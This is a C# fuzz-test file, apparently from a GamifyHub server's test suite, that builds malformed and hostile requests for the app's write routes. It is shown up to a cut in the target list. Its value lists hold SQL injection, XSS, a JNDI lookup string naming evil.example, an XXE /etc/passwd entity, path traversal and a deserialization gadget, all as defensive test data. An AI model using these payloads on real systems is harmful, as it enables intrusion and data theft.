using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;

namespace GamifyHub.Server.Tests.Fuzz;

/// <summary>Who sends a fuzz request.</summary>
public enum Caller { Anonymous, Integration, Ravi, Admin }

/// <summary>
/// One hostile request. <see cref="Route"/> is the route pattern it is aimed at (as the app's endpoint data source
/// spells it), so the test can prove that every write route was fuzzed.
/// </summary>
public sealed record FuzzRequest(string Route, string Category, HttpMethod Method, string Url, byte[]? Body, string? ContentType,
    Caller Caller, IReadOnlyList<KeyValuePair<string, string>> Headers, bool MaySucceedHarmlessly = false, int? ExpectedStatus = null)
{
    public string Describe(int max = 160)
    {
        var body = Body is null ? "(no body)" : Printable(Encoding.UTF8.GetString(Body, 0, Math.Min(Body.Length, max * 4)), max)
            + (Body.Length > max ? $"… ({Body.Length:N0} bytes)" : "");
        var headers = Headers.Count == 0 ? "" : " " + string.Join(" ", Headers.Select(h => $"{h.Key}: {Printable(h.Value, 40)}"));
        return $"{Method} {Printable(Url, 120)} [{Category}; {Caller}; {ContentType ?? "no content type"}{headers}] {body}";
    }

    public static string Printable(string text, int max)
    {
        var builder = new StringBuilder();
        foreach (var c in text.Length > max ? text[..max] : text)
        {
            builder.Append(char.IsControl(c) || char.GetUnicodeCategory(c) is System.Globalization.UnicodeCategory.Format
                ? $"\\u{(int)c:x4}" : c.ToString());
        }

        return text.Length > max ? builder + "…" : builder.ToString();
    }
}

/// <summary>The real things a request may name: an item in Ravi's inbox and departments.</summary>
public sealed record FuzzTargets(Guid Item, Guid RaviDepartment, Guid OtherDepartment, string WebhookSource = "fuzz-hook",
    string WebhookSecret = "whsec_fuzz", string RuleDocument = "{\"format\":2}");

/// <summary>
/// Deterministic generator of malformed or hostile requests for every write route. Every request made by
/// <see cref="Malformed"/> is invalid by construction (exactly the thing the server must refuse), so any 2xx answer
/// or state change is a server bug. <see cref="HostileButValid"/> are well-formed requests with hostile content.
/// </summary>
public sealed partial class HostileInputs(Random random, FuzzTargets targets)
{
    public const string Feedback = "/api/feedback";
    public const string FeedbackBatch = "/api/feedback/batch";
    public const string Actions = "/api/feedback/{id:guid}/actions";
    public const string Events = "/api/events";
    public const string EventsBatch = "/api/events/batch";
    public const string Login = "/api/auth/login";
    public const string Logout = "/api/auth/logout";
    public const string PasswordChange = "/api/auth/password";
    public const string PasswordReset = "/api/auth/password-reset";
    public const string ApiFallback = "/api/{*path:nonfile}";
    public const string HubNegotiate = "/hubs/live/negotiate";
    public const string Hub = "/hubs/live";
    public const string HealthLive = "/health/live";
    public const string HealthReady = "/health/ready";
    public const string PageFallback = "/{*path:nonfile}";
    public const string AdminBackup = "/api/admin/backup";
    public const string AdminRulesPreview = "/api/admin/rules/preview";
    public const string AdminRulesApply = "/api/admin/rules/apply";
    public const string AdminSeasons = "/api/admin/seasons";
    public const string AdminSla = "/api/admin/sla";
    public const string AdminRoutingRules = "/api/admin/routing-rules";
    public const string AdminTaxonomy = "/api/admin/taxonomy";
    public const string AdminBenchmarks = "/api/admin/analytics/benchmarks";
    public const string AdminReturnModel = "/api/admin/analytics/return-model";
    public const string Webhook = "/api/webhooks/{source}";
    public const string AdminWebhooks = "/api/admin/webhooks";
    public const string AdminWebhookSecret = "/api/admin/webhooks/{name}/secret";
    public const string AdminWebhook = "/api/admin/webhooks/{name}";
    public const string AdminImports = "/api/admin/imports";
    public const string Challenges = "/api/challenges";
    public const string ChallengeSchedule = "/api/challenges/{id:guid}/schedule";
    public const string ChallengeCancel = "/api/challenges/{id:guid}/cancel";
    public const string NotificationsRead = "/api/notifications/read";
    public const string NotificationRead = "/api/notifications/{id:guid}/read";
    public const string NotificationsReadAll = "/api/notifications/read-all";
    public const string NotificationPreferences = "/api/notifications/preferences";
    public const string AdminPrivacy = "/api/admin/privacy";
    public const string MyPrivacy = "/api/me/privacy";
    public const string Kudos = "/api/kudos";
    public const string WallboardTokens = "/api/admin/wallboard-tokens";
    public const string WallboardToken = "/api/admin/wallboard-tokens/{id:guid}";
    public const string EraseMe = "/api/me/erase";
    public const string AdminErase = "/api/admin/people/{employeeId:guid}/erase";
    public const string AdminRetention = "/api/admin/retention";
    public const string AdminRetentionRun = "/api/admin/retention/run";
    public const string People = "/api/admin/people";
    public const string Person = "/api/admin/people/{id}";
    public const string PersonDisable = "/api/admin/people/{id}/disable";
    public const string PersonEnable = "/api/admin/people/{id}/enable";
    public const string PersonPasswordReset = "/api/admin/people/{id}/password-reset";
    public const string AdminDepartments = "/api/admin/departments";
    public const string AdminDepartment = "/api/admin/departments/{id:guid}";
    public const string ApiKeys = "/api/admin/api-keys";
    public const string ApiKey = "/api/admin/api-keys/{id:guid}";

    public const string Password = "Demo-Pass-2026!";
    public const string Ravi = "ravi.patel@demo.gamifyhub";
    public const string Sofia = "sofia.rossi@demo.gamifyhub";
    private const string Json = "application/json; charset=utf-8";

    // ---------------------------------------------------------------- hostile values

    public static readonly string[] Sql =
    [
        "'; DROP TABLE Events;--", "' OR '1'='1", "\" OR \"\"=\"", "1; DELETE FROM Awards", "Robert'); DROP TABLE FeedbackItems;--",
        "' UNION SELECT KeyHash, Name FROM ApiKeys--", "1' AND sqlite_version() > 0 --", "%' OR 1=1 --",
        "'; ATTACH DATABASE '/tmp/pwned.db' AS p;--", "'; UPDATE AspNetUsers SET LockoutEnd = NULL;--",
    ];

    public static readonly string[] Html =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(document.cookie)</script>",
        "<iframe src=//evil.example>", "<scr<script>ipt>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}", "<a href=\"javascript:alert(1)\">x</a>", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    ];

    public static readonly string[] Control =
    [
        "\0", "a\0b", "\u0001\u0002\u0003", "\u0007bell", "line\r\nbreak", "\u001b[31mred\u001b[0m", "\u007f", "\u0085", "\t\t", "\u2028\u2029",
    ];

    public static readonly string[] LookAlike =
    [
        "re\u0430d", "\uff52\uff45\uff41\uff44", "re\u200dad", "\u202eread", "r\u00ebad", "re\u00adad", "READ", "Read", "read\ufeff", "\u017f", "\u212a",
        "\u0130", "\u0131", "\U0001d42b\U0001d41e\U0001d41a\U0001d41d", "\u200b", "\u2060", "\u00a0",
    ];

    public static readonly string[] Odd =
    [
        "", " ", "   \t  ", "null", "undefined", "NaN", "Infinity", "-1", "0", "1e400", "99999999999999999999", "-99999999999999999999",
        "%s%s%s%n", "{0}", "../../../../etc/passwd", "C:\\Windows\\win.ini", "\\\\evil\\share", "\U0001F600\U0001F389",
        "\U0001F468\u200d\U0001F469\u200d\U0001F467", "\ufffd", "\uffff", "true", "[]", "{}",
    ];

    /// <summary>Raw JSON literals of the wrong type for fields that are all strings on the wire.</summary>
    public static readonly string[] WrongTypes =
    [
        "1", "-1", "0", "-0", "1.5", "1e400", "-1e400", "99999999999999999999", "-99999999999999999999",
        "123456789012345678901234567890", "true", "false", "[]", "{}", "[\"read\"]", "{\"value\":\"read\"}", "[[[[]]]]",
        "{\"$type\":\"System.IO.FileInfo, System.IO\",\"fileName\":\"/etc/passwd\"}", "[null]", "{\"\":\"\"}", "1E+2", "-0.0e-0",
    ];

    /// <summary>Not JSON at all where a value belongs: the whole body cannot parse.</summary>
    public static readonly string[] BrokenLiterals =
    [
        "NaN", "Infinity", "-Infinity", "undefined", "'read'", "0x1F", "01", "+1", ".5", "1.", "tru", "nul", "\"unterminated",
        "\"bad \\x escape\"", "\"tab\there\"", "\"nul\u0000here\"", "\"\\u12\"", "\"\\ud800\"", "\"a\\udfffb\"", "\"\\uDC00\\uD800\"", "read",
    ];

    private static readonly string[] Channels =
        ["facebook", "linkedin", "x", "xing", "youtube", "instagram", "appstore", "playstore", "blog", "email"];

    private static readonly string[] BadChannels =
    [
        "Facebook", "FACEBOOK", "f\u0430cebook", "facebook ", " x", "\uff58", "x\u200b", "\u200bx", "faceb\u00adook", "facebook\u0000",
        "myspace", "x,facebook", "*", "%", "facebook;--", "tw\u0456tter", "\u202ekoobecaf",
    ];

    private static readonly string[] BadActionTypes =
    [
        "READ", "Read", "r\u00ebad", "re\u0430d", "\uff52\uff45\uff41\uff44", "read\u200d", "\u200dread", "read\u0000", "re\u00adad", "\u202eread",
        "read ", "  read", "read\n", "r e a d", "", "   ", "reads", "re-ad", "read,reply", "reply|read", "*", "1", "0", "-1",
        "99999999999999999999", "1e400", "null", "undefined", "NaN", "true", "approve", "delete", "' OR '1'='1",
        "'; DROP TABLE Events;--", "<script>alert(1)</script>", "%72ead", "Reply", "RESOLVE", "resolv\u0435", "\u0456nsight", "t\u0430g",
    ];

    private static readonly string[] InvisibleText =
    [
        "", " ", "\n\t ", "<b></b>", "<script></script>", "<p> </p>", "<br/>", "\u0000\u0001\u0002", "&nbsp;", "&#32;", "\u200b",
        "\u200d\u200d", "\u202e", "\ufeff", "\u2060", "\u00a0\u2003", "<b>\u200b</b>", "&#8203;",
    ];

    private static readonly string[] BadUrls =
    [
        "ftp://example.com/a", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "not a url", "//evil.example/x", "/relative/path", "",
        " ", "http://", "https://", "file:///etc/passwd", "data:text/html,<script>alert(1)</script>", "mailto:a@example.com",
        "\uff48\uff54\uff54\uff50\uff53://example.com", "http ://x", "vbscript:msgbox(1)", "about:blank", "urn:isbn:0451450523",
    ];

    private static readonly string[] BadLanguages =
        ["EN", "De", "en-US", "eng", "english", "\u0435n", "de\u200b", " en", "", "klingon", "'; DROP TABLE Events;--", "<script>alert(1)</script>", "fr"];

    private static readonly string[] BadDates =
    [
        "yesterday", "2026-13-45T00:00:00Z", "2026-02-30", "", "  ", "'; DROP TABLE Events;--", "<script>", "\u0000", "99999999999999999999",
        "1e400", "NaN", "Infinity", "0x10", "--", "now", "2026-01-01T25:61:61Z", "\u0662\u0660\u0662\u0666-01-01",
    ];

    private static readonly string[] FutureDates = ["2999-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2100-01-01"];

    private static readonly string[] BadEmails =
    [
        "nobody@demo.gamifyhub", "r\u0430vi.patel@demo.gamifyhub", "ravi.patel@demo.gamifyhub\u200d", "ravi.patel@demo.gamifyhub\u0000",
        "ravi.patel\uff20demo.gamifyhub", "\u017fofia.rossi@demo.gamifyhub", "ravi.patel@demo.gamifyhub.evil", "ravi.patel", "@",
        "'; DROP TABLE Events;--", "<script>alert(1)</script>", "ravi.patel@demo.gamifyhub' OR '1'='1", "ravi.pate\u0142@demo.gamifyhub",
        "\u202ebuhyfimag.omed@letap.ivar", "RAV\u0130.PATEL@DEMO.GAMIFYHUB", "rav\u0131.patel@demo.gamifyhub",
        "\u017f\u006fFIA.ROSSI@DEMO.GAMIFYHUB",
    ];

    private static readonly string[] BadApiKeys =
        ["demo-ingest-k\u0435y", "DEMO-INGEST-KEY", "", "' OR '1'='1", "<script>", "demo-ingest-key\u200b", "demo-ingest", "null", "ghk_0000"];

    // ---------------------------------------------------------------- JSON helpers

    private static readonly JsonSerializerOptions Strict = new();
    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private bool Chance(double p) => random.NextDouble() < p;

    /// <summary>A JSON string literal; raw UTF-8 or \u-escaped at random. Lone surrogates become escapes.</summary>
    private string S(string value)
    {
        if (value.Any(char.IsSurrogate) && !IsWellFormed(value))
        {
            var builder = new StringBuilder("\"");
            foreach (var c in value)
            {
                builder.Append(c is '"' or '\\' || c < ' ' || char.IsSurrogate(c) ? $"\\u{(int)c:x4}" : c.ToString());
            }

            return builder.Append('"').ToString();
        }

        return JsonSerializer.Serialize(value, Chance(0.5) ? Relaxed : Strict);
    }

    private static bool IsWellFormed(string value)
    {
        for (var i = 0; i < value.Length; i++)
        {
            if (char.IsHighSurrogate(value[i]) && i + 1 < value.Length && char.IsLowSurrogate(value[i + 1]))
            {
                i++;
            }
            else if (char.IsSurrogate(value[i]))
            {
                return false;
            }
        }

        return true;
    }

    private static string Obj(IEnumerable<(string Name, string? Literal)> fields) =>
        "{" + string.Join(",", fields.Where(f => f.Literal is not null).Select(f => $"\"{f.Name}\":{f.Literal}")) + "}";

    private string Long(int length) => new(Pick(new[] { 'a', 'é', '<', 'ж', '\u200d', '\'' }), length);

    private string MegaByte() => Long(1_048_576);

    private string AnyHostile() => random.Next(5) switch
    {
        0 => Pick(Sql),
        1 => Pick(Html),
        2 => Pick(Control),
        3 => Pick(LookAlike),
        _ => Pick(Odd),
    };

    /// <summary>A string that is fine for free-text fields (visible, not too long) but hostile.</summary>
    private string HostileText() => random.Next(6) switch
    {
        0 => Pick(Sql),
        1 => "Great app " + Pick(Html),
        2 => "Cyrillic re\u0430d and fullwidth \uff52\uff45\uff41\uff44 \u202eright-to-left",
        3 => "zero\u200dwidth\u200b joiners \U0001F468\u200d\U0001F469\u200d\U0001F467",
        4 => "control \u0001\u0007 chars \u001b[31m",
        _ => "The app crashes",
    };

    private string WrongType() => Pick(WrongTypes);

    private string? Omit() => null;

    private string? OneOf(params Func<string?>[] choices) => choices[random.Next(choices.Length)]();

    private string NewGuid()
    {
        var bytes = new byte[16];
        random.NextBytes(bytes);
        return new Guid(bytes).ToString();
    }

    // ---------------------------------------------------------------- fields per endpoint

    /// <summary>A field: a valid literal (null = left out) and an invalid one (null = left out, when that is invalid).</summary>
    private sealed record Field(string Name, Func<string?> Valid, Func<string?> Invalid);

    private IReadOnlyList<Field> FeedbackFields() =>
    [
        new("channel", () => S(Pick(Channels)),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(BadChannels)), () => S(AnyHostile()))),
        new("externalId", () => S(Chance(0.5) ? $"fz-{NewGuid()}" : Pick(Sql)),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(new[] { "", "   ", "\t\n", "a\u0000b", "id\nnewline", "\u0007", "ok\u0085", "\u001b[2J" })),
                () => S(Long(201)), () => S(Long(5_000)))),
        new("author", () => Chance(0.3) ? null : S(Chance(0.5) ? "@kim" : HostileText()),
            () => OneOf(WrongType, () => S(Long(201)), () => S(Long(20_000)))),
        new("text", () => S(HostileText()),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(InvisibleText)), () => S(Long(10_001)), () => S(MegaByte()))),
        new("url", () => Chance(0.5) ? null : S("https://example.com/p?q=1"),
            () => OneOf(WrongType, () => S(Pick(BadUrls)), () => S("https://example.com/" + new string('a', 2_000)))),
        new("language", () => Chance(0.5) ? null : S(Pick(new[] { "en", "de" })),
            () => OneOf(WrongType, () => S(Pick(BadLanguages)))),
        new("createdAt", () => Chance(0.5) ? null : S("2026-01-02T03:04:05Z"),
            () => OneOf(WrongType, () => S(Pick(BadDates)))),
    ];

    private IReadOnlyList<Field> EventFields() =>
    [
        new("eventId", () => S(NewGuid()),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(Sql)), () => S(BadGuid()), () => S(Long(100_000)))),
        new("employee", () => S(Chance(0.5) ? Ravi : Sofia),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(BadEmails)), () => S(""), () => S(Long(300)))),
        new("type", () => S(Pick(new[] { "read", "reply", "tag", "insight", "resolve" })),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(BadActionTypes)), () => S(Pick(new[] { "forward", "reopen" })))),
        new("feedbackId", () => Chance(0.5) ? null : S(targets.Item.ToString()),
            () => OneOf(WrongType, () => S(BadGuid()), () => S(Pick(Html)), () => S(""))),
        new("occurredAt", () => Chance(0.5) ? null : S("2026-01-01T00:00:00Z"),
            () => OneOf(WrongType, () => S(Pick(BadDates)), () => S(Pick(FutureDates)))),
    ];

    /// <summary>Every invalid part is refused before the password changes (a valid body from Ravi would change his).</summary>
    private IReadOnlyList<Field> PasswordChangeFields() =>
    [
        new("currentPassword", () => S(Password),
            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S("a wrong but long pass phrase"), () => S(Long(5_000)))),
        new("newPassword", () => S("a fuzzed new pass phrase"),
            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S("short"), () => S(Ravi), () => S(Long(5_000)))),
    ];

    /// <summary>No code the fuzzer makes is a real one: even a valid-looking body is refused (400).</summary>
    private IReadOnlyList<Field> PasswordResetFields() =>
    [
        new("email", () => S(Ravi),
            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S(Pick(BadEmails)), () => S(Long(1_000)))),
        new("code", () => S("CfDJ8" + Long(40)),
            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S(AnyHostile()), () => S(Long(5_000)))),
        new("newPassword", () => S("a fuzzed new pass phrase"),
            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S("short"), () => S(Long(5_000)))),
    ];

    private IReadOnlyList<Field> LoginFields() =>
    [
        new("email", () => S(Ravi),
            () => OneOf(Omit, () => "null", WrongType, () => S(Pick(new[] { "", "   ", "\u0000" })), () => S(Pick(BadEmails)),
                () => S(AnyHostile() + "@demo.gamifyhub"), () => S(Long(1_000)), () => S(MegaByte()))),
        new("password", () => S(Password),
            () => OneOf(Omit, () => "null", WrongType, () => S(""), () => S(Long(5_000)), () => S(MegaByte()))),
    ];

    /// <summary>Things that are not a GUID (or are the empty GUID), some of them very close to one.</summary>
    private string BadGuid()
    {
        var guid = NewGuid();
        return random.Next(10) switch
        {
            0 => "not-a-guid",
            1 => Guid.Empty.ToString(),
            2 => "g" + guid[1..],
            3 => "\u0430" + guid[1..],
            4 => guid + "0",
            5 => guid[..^1],
            6 => "{" + guid,
            7 => string.Concat(guid.Select(c => char.IsAsciiDigit(c) ? (char)(c - '0' + '\uff10') : c)),
            8 => guid.Replace('-', '\u2010'),
            _ => AnyHostile(),
        };
    }

    /// <summary>A valid-shaped object with exactly one (sometimes two) invalid fields.</summary>
    private string InvalidObject(IReadOnlyList<Field> fields)
    {
        var bad = random.Next(fields.Count);
        var alsoBad = Chance(0.2) ? random.Next(fields.Count) : -1;
        return Obj(fields.Select((f, i) => (f.Name, i == bad || i == alsoBad ? f.Invalid() : f.Valid())));
    }

    private static string ValidObject(IReadOnlyList<Field> fields) => Obj(fields.Select(f => (f.Name, f.Valid())));

    // ---------------------------------------------------------------- action bodies

    private string ValidAction() => Pick(new[]
    {
        "{\"type\":\"read\"}", "{\"type\":\"reply\",\"text\":\"On it\"}", "{\"type\":\"tag\",\"text\":\"battery\"}",
        $"{{\"type\":\"forward\",\"departmentId\":\"{targets.OtherDepartment}\",\"note\":\"yours\"}}",
        "{\"type\":\"insight\",\"title\":\"Fix it\",\"url\":\"https://example.com/b/1\"}", "{\"type\":\"resolve\",\"note\":\"Done\"}",
    });

    /// <summary>An action body the server must refuse: bad type, missing or bad field for the type, or a refused action.</summary>
    private string InvalidAction()
    {
        string BadText(int max) => OneOf(Omit, () => "null", WrongType, () => S(Pick(InvisibleText)), () => S(Long(max + 1)),
            () => S(max > 1_000 ? MegaByte() : Long(max * 10))) ?? "__omit__";
        string? Field(string name, string literal) => literal == "__omit__" ? null : $"\"{name}\":{literal}";
        string Body(params string?[] fields) => "{" + string.Join(",", fields.Where(f => f is not null)) + "}";
        string MaybeHostile(string name) => Chance(0.5) ? $"\"{name}\":{S(HostileText())}" : $"\"{name}\":{S("ok")}";

        return random.Next(9) switch
        {
            0 or 1 => Body(Field("type", OneOf(Omit, () => "null", WrongType, () => S(Pick(BadActionTypes)), () => S(AnyHostile()))
                                          is { } t ? t : "__omit__"), MaybeHostile("text"), Chance(0.3) ? MaybeHostile("note") : null),
            2 => Body("\"type\":\"reply\"", Field("text", BadText(4_000)), Chance(0.5) ? MaybeHostile("note") : null),
            3 => Body("\"type\":\"tag\"", Field("text", BadText(300))),
            4 => random.Next(3) switch
            {
                0 => Body("\"type\":\"forward\"", Field("departmentId", OneOf(Omit, () => "null", WrongType, () => S(BadGuid()),
                    () => S("department-" + targets.OtherDepartment)) ?? "__omit__"), MaybeHostile("note")),
                1 => Body("\"type\":\"forward\"", $"\"departmentId\":{S(Pick(new[] { targets.RaviDepartment, Guid.Empty, Guid.Parse(NewGuid()) }).ToString())}",
                    MaybeHostile("note")),
                _ => Body("\"type\":\"forward\"", $"\"departmentId\":\"{targets.OtherDepartment}\"", Field("note",
                    OneOf(WrongType, () => S(Long(4_001))) ?? "__omit__")),
            },
            5 => Chance(0.5)
                ? Body("\"type\":\"insight\"", Field("title", BadText(300)), "\"url\":\"https://example.com/b/1\"")
                : Body("\"type\":\"insight\"", MaybeHostile("title"), Field("url", // a blank url counts as none here
                    OneOf(WrongType, () => S(Pick(BadUrls.Where(u => !string.IsNullOrWhiteSpace(u)).ToArray())), () => S("https://example.com/" + new string('u', 2_000))) ?? "__omit__")),
            6 => Body("\"type\":\"resolve\"", Field("note", BadText(4_000))),
            7 => Body("\"type\":\"reopen\"", Chance(0.5) ? MaybeHostile("note") : null), // the item is open: a conflict
            _ => Body("\"type\":" + S(Pick(new[] { "read", "reply", "resolve" })),
                $"\"{Pick(new[] { "text", "note", "title", "url", "departmentId" })}\":{WrongType()}"),
        };
    }

    // ---------------------------------------------------------------- bodies that are not the right shape at all

    /// <summary>Breaks a valid JSON body so that it cannot parse.</summary>
    private string BreakJson(string valid)
    {
        var structural = new List<int>();
        var inString = new List<int>();
        var quoted = false;
        for (var i = 0; i < valid.Length; i++)
        {
            var c = valid[i];
            if (quoted)
            {
                if (c == '\\')
                {
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    inString.Add(i);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is '{' or '}' or '[' or ']' or ':' or ',')
            {
                structural.Add(i);
            }
        }

        switch (random.Next(13))
        {
            case 0:
                return valid[..random.Next(1, valid.Length)];
            case 1:
                var quotes = Enumerable.Range(0, valid.Length).Where(i => valid[i] == '"' && (i == 0 || valid[i - 1] != '\\')).ToList();
                var q = Pick(quotes);
                return valid.Remove(q, 1);
            case 2:
                var s = Pick(structural);
                return valid[..s] + Pick(new[] { ";", "=", "#", "x", "\0", "'", ")", " " }) + valid[(s + 1)..];
            case 3:
                return valid + Pick(new[] { "}", "]", ",", " x", "{}", "\0", "//c", "/*c*/", valid, "\"", "null" });
            case 4:
                return Pick(new[] { ")]}',\n", "\0", "x", ",", "//c\n", "/*c*/", "\"", "'" }) + valid;
            case 5:
                return valid.Length > 2 ? valid[..^1] + ",}" : valid + ",";
            case 6:
                return valid.Replace('"', '\'');
            case 7 when inString.Count > 0:
                var p = Pick(inString);
                return valid[..p] + Pick(new[] { "\u0001", "\n", "\t", "\r", "\0", "\u001f" }) + valid[p..];
            case 8 when inString.Count > 0:
                var e = Pick(inString);
                return valid[..e] + Pick(new[] { "\\x41", "\\u12G", "\\q", "\\uZZZZ", "\\'", "\\U0041", "\\ " }) + valid[e..];
            case 9:
                return System.Text.RegularExpressions.Regex.Replace(valid, "\"([A-Za-z]+)\":", "$1:");
            case 10:
                var at = Pick(structural);
                return valid[..(at + 1)] + Pick(new[] { "/*x*/", "//x\n", "NaN,", "undefined,", "," }) + valid[(at + 1)..];
            case 11:
                return "[" + valid + "]";
            default:
                return valid[..^1] + "," + Pick(new[] { "\"x\"", "\"x\":", ":1", "\"x\":}", "1:2" }) + "}";
        }
    }

    /// <summary>Whole bodies that are not the expected object: empty, scalars, arrays, deep nesting, garbage.</summary>
    private byte[] WrongShapeBody()
    {
        switch (random.Next(16))
        {
            case 0: return [];
            case 1: return Encoding.UTF8.GetBytes(Pick(new[] { " ", "\n\t ", "\r\n" }));
            case 2: return Encoding.UTF8.GetBytes(Pick(new[] { "null", "true", "false", "0", "-1", "1e400", "99999999999999999999", "\"string\"" }));
            case 3: return Encoding.UTF8.GetBytes(Pick(new[] { "[]", "[{}]", "{}", "[null]", "{\"\":null}", "[[[]]]" }));
            case 4: return Encoding.UTF8.GetBytes(new string('[', 10_000) + new string(']', 10_000));
            case 5: return Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000));
            case 6: return Encoding.UTF8.GetBytes("{\"type\":" + new string('[', 10_000) + new string(']', 10_000) + "}");
            case 7: return Encoding.UTF8.GetBytes(new string('[', 100_000));
            case 8: return [0xEF, 0xBB, 0xBF];
            case 9:
                var garbage = new byte[random.Next(1, 300)];
                random.NextBytes(garbage);
                garbage[0] = (byte)Pick(new[] { 0x00, 0xFF, 0x80, (int)'x', (int)'<', (int)'%' });
                return garbage;
            case 10: return Encoding.UTF8.GetBytes("[" + string.Join(",", Enumerable.Repeat("1", 100_000)) + "]");
            case 11: return Encoding.UTF8.GetBytes("\"" + new string('a', 1_048_576) + "\"");
            case 12: return Encoding.UTF8.GetBytes(new string('{', 1_048_576));
            case 13: return new byte[random.Next(1, 64)];
            case 14: return Encoding.UTF8.GetBytes(Pick(new[] { "<xml/>", "email=a&password=b", "--boundary\r\n", "SELECT * FROM Events", "<script>alert(1)</script>" }));
            default: return Encoding.UTF8.GetBytes(Pick(BrokenLiterals));
        }
    }

    private static readonly byte[][] BadUtf8 =
    [
        [0xC3, 0x28], [0xA0, 0xA1], [0xE2, 0x28, 0xA1], [0xE2, 0x82, 0x28], [0xF0, 0x28, 0x8C, 0xBC], [0xF0, 0x90, 0x28, 0xBC],
        [0xF8, 0xA1, 0xA1, 0xA1, 0xA1], [0xFC, 0xA1, 0xA1, 0xA1, 0xA1, 0xA1], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80],
        [0xED, 0xBF, 0xBF], [0xFF], [0xFE], [0x80], [0xC3], [0xF4, 0x90, 0x80, 0x80], [0xC1, 0xBF],
    ];

    /// <summary>Splices an invalid UTF-8 sequence into a string value (or anywhere) of a valid body.</summary>
    private byte[] InvalidUtf8(string valid)
    {
        var bytes = Encoding.UTF8.GetBytes(valid);
        var quotes = Enumerable.Range(0, bytes.Length).Where(i => bytes[i] == (byte)'"').ToList();
        var at = Chance(0.8) && quotes.Count > 1 ? quotes[random.Next(quotes.Count)] + 1 : random.Next(1, bytes.Length);
        var bad = Pick(BadUtf8);
        return [.. bytes[..at], .. bad, .. bytes[at..]];
    }

    // ---------------------------------------------------------------- requests

    private const int PayloadTooLarge = 413;

    private static FuzzRequest Post(string route, string category, string url, byte[]? body, Caller caller,
        string? contentType = Json, IReadOnlyList<KeyValuePair<string, string>>? headers = null, bool maySucceed = false) =>
        new(route, category, HttpMethod.Post, url, body, contentType, caller, headers ?? [], maySucceed);

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    /// <param name="Weight">How often it is picked relative to the others.</param>
    private sealed record Target(string Route, string Url, Caller Caller, Func<string> Valid, Func<string> Invalid,
        IReadOnlyList<Caller> Refused, string Method = "POST", int Weight = 3);

    private static readonly Caller[] NotAdmins = [Caller.Anonymous, Caller.Integration, Caller.Ravi];
    private static readonly Caller[] NotEmployees = [Caller.Anonymous, Caller.Integration, Caller.Admin];

    private FuzzRequest Send(Target t, string category, byte[]? body, Caller caller, string? contentType = Json,
        IReadOnlyList<KeyValuePair<string, string>>? headers = null) =>
        new(t.Route, category, new HttpMethod(t.Method), t.Url, body, contentType, caller, headers ?? [], false);

    /// <summary>Each target as often as its weight says, so the intake routes get most of the requests.</summary>
    private Target PickWeighted(IReadOnlyList<Target> all)
    {
        var roll = random.Next(all.Sum(t => t.Weight));
        foreach (var t in all)
        {
            if ((roll -= t.Weight) < 0)
            {
                return t;
            }
        }

        return all[^1];
    }

    /// <summary>Routes with a JSON body whose allowed callers get the whole hostile treatment (at least this many requests).</summary>
    public static readonly IReadOnlyDictionary<string, int> JsonBodyMinimums = new Dictionary<string, int>
    {
        [Feedback] = 500, [FeedbackBatch] = 500, [Actions] = 500, [Events] = 500, [EventsBatch] = 500, [Login] = 500,
        [AdminSeasons] = 150, [AdminSla] = 150, [AdminRoutingRules] = 150, [AdminTaxonomy] = 150, [AdminRulesPreview] = 150,
        [AdminRulesApply] = 150, [Challenges] = 150, [Kudos] = 150, [NotificationsRead] = 150, [NotificationPreferences] = 150,
        [WallboardTokens] = 150, [AdminWebhooks] = 150, [PasswordChange] = 150, [PasswordReset] = 150, [AdminBenchmarks] = 150,
        [AdminReturnModel] = 150,
    };

    private IReadOnlyList<Target> Targets() =>
    [
        new(Feedback, "/api/feedback", Caller.Integration, () => ValidObject(FeedbackFields()), () => InvalidObject(FeedbackFields()),
            [Caller.Anonymous, Caller.Ravi]),
        new(FeedbackBatch, "/api/feedback/batch", Caller.Integration, () => Batch("items", FeedbackFields(), valid: true),
            () => Batch("items", FeedbackFields(), valid: false), [Caller.Anonymous, Caller.Ravi]),
        new(Actions, $"/api/feedback/{targets.Item}/actions", Caller.Ravi, ValidAction, InvalidAction,
            [Caller.Anonymous, Caller.Integration, Caller.Admin]),
        new(Events, "/api/events", Caller.Integration, () => ValidObject(EventFields()), () => InvalidObject(EventFields()),
            [Caller.Anonymous, Caller.Ravi]),
        new(EventsBatch, "/api/events/batch", Caller.Integration, () => Batch("events", EventFields(), valid: true),
            () => Batch("events", EventFields(), valid: false), [Caller.Anonymous, Caller.Ravi]),
        new(Login, "/api/auth/login", Caller.Anonymous, () => ValidObject(LoginFields()), () => InvalidObject(LoginFields()), []),
        new(PasswordChange, PasswordChange, Caller.Ravi, () => ValidObject(PasswordChangeFields()), () => InvalidObject(PasswordChangeFields()),
            [Caller.Anonymous, Caller.Integration], Weight: 1),
        new(PasswordReset, PasswordReset, Caller.Anonymous, () => ValidObject(PasswordResetFields()), () => InvalidObject(PasswordResetFields()),
            [], Weight: 1),

        // Admin and employee JSON routes: each valid body would change something if it got through with a broken encoding,
